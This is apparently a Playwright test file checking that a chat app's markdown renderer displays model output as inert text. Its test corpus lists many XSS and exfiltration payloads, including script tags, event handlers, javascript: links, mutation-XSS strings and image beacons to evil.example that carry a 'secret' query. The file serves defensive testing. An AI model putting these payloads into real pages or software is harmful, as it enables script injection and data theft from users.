/** What a model writes is shown and never obeyed. Every test here also fails on a dialog, an error, or a foreign request. */
import { expect, test } from './support/test.ts';

const EVIL = 'https://evil.example';
const corpus = [
  `<script>document.title = 'obeyed'; alert(1)</script>`,
  `<img src=${EVIL}/a.png onerror="alert(1)">`,
  `<img srcset="${EVIL}/b.png 1x">`,
  `![a chart](${EVIL}/c.png?q=secret)`,
  `![by reference][pic]\n\n[pic]: ${EVIL}/d.png "t"`,
  `[![in a link](${EVIL}/e.png)](${EVIL}/f)`,
  `<svg onload="alert(1)"><image href="${EVIL}/g.png"/><use href="${EVIL}/h.svg#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<style>body { background: url(${EVIL}/i.png) } @import "${EVIL}/j.css";</style>`,
  `<div style="position:fixed;inset:0;background:red" id="root" class="absolute">over the page</div>`,
  `<link rel="prefetch" href="${EVIL}/k"><link rel="stylesheet" href="${EVIL}/l.css">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/m">`,
  `<base href="${EVIL}/">`,
  `<iframe src="${EVIL}/n" srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="${EVIL}/o"></object><embed src="${EVIL}/p">`,
  `<video src="${EVIL}/q" poster="${EVIL}/r" autoplay></video><audio src="${EVIL}/s" autoplay></audio>`,
  `<form action="${EVIL}/t"><input name="body" autofocus onfocus="alert(1)"><button>Send</button></form>`,
  `<details open ontoggle="alert(1)"><summary>x</summary></details>`,
  `<a href="${EVIL}" ping="${EVIL}/u">ping</a>`,
  '[script link](javascript:alert(1)) [data link](data:text/html,<script>alert(1)</script>) [file](file:///etc/passwd)',
  '[entity](&#x6A;avascript:alert(1)) [case](JaVaScRiPt:alert(1)) <javascript:alert(1)>',
  `![drawing](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![" onerror="alert(1)](${EVIL}/v.png)`,
  `# <img src=${EVIL}/w onerror=alert(1)>`,
  `| <img src=${EVIL}/x onerror=alert(1)> |\n|---|\n| ![cell](${EVIL}/y.png) |`,
  '```html"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  `<noscript><p title="</noscript><img src=${EVIL}/z onerror=alert(1)>">`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  '[__proto__]: https://a.example\n\n[__proto__] [constructor]',
];

test('nothing a model writes runs, loads, styles, navigates or asks [LC-016] [L9]', async ({ startWith, chat }) => {
  const server = await startWith('parrot?delay=2');
  await chat.open(server.url);
  // The title of the conversation and the reader's own message show the same text.
  await chat.ask(corpus.join('\n\n'));
  await expect(chat.articles).toHaveCount(2);
  await chat.settled();
  await chat.page.reload();
  await expect(chat.articles).toHaveCount(2);

  const found = await chat.messages.evaluate((messages) => {
    const forbidden = 'script,style,link,meta,base,iframe,object,embed,svg image,video,audio,form,input,details,math';
    const view = messages.querySelectorAll('[data-markdown="view"]');
    return [...view].flatMap((each) => [
      ...[...each.querySelectorAll(forbidden)].map(({ outerHTML }) => outerHTML),
      ...[...each.querySelectorAll('[id],[name],[class],[style],[srcset],[ping]')].map(({ outerHTML }) => outerHTML),
      ...[...each.querySelectorAll('img')].map(({ src }) => src).filter((src) => !src.startsWith('data:image/')),
      ...[...each.querySelectorAll('a')].map(({ href }) => href).filter((href) => !/^(https?|mailto):/.test(href)),
    ]);
  });
  expect(found).toEqual([]);
  await expect(chat.page).not.toHaveTitle('obeyed');
  expect(new URL(chat.page.url()).origin).toBe(server.url);
  await expect(chat.last.getByRole('link', { name: 'Image: a chart' })).toHaveAttribute('href', /^https:\/\/evil/);
  await expect(chat.last).toContainText('<script>document.title');
});

test('a link leaves the page alone: it opens elsewhere and cannot look back [L9]', async ({ startWith, chat }) => {
  const server = await startWith('parrot');
  await chat.open(server.url);
  await chat.ask('[docs](https://docs.example/) and a@b.example');
  await chat.settled();
  const link = chat.last.getByRole('link', { name: 'docs' });
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(chat.last.getByRole('link', { name: 'a@b.example' })).toHaveAttribute('href', 'mailto:a@b.example');
});

test('text that is costly to parse does not freeze the page [LC-016]', async ({ startWith, chat }) => {
  const server = await startWith('parrot');
  await chat.open(server.url);
  const costly = ['*a_ ', '[', '`', '> ', '- ', '![](', '<a b="'].map((unit) => unit.repeat(3000)).join('\n\n');
  await chat.ask(costly);
  await expect(chat.articles).toHaveCount(2);
  await chat.settled();
  await chat.field.fill('still responsive');
  await expect(chat.field).toHaveValue('still responsive');
});
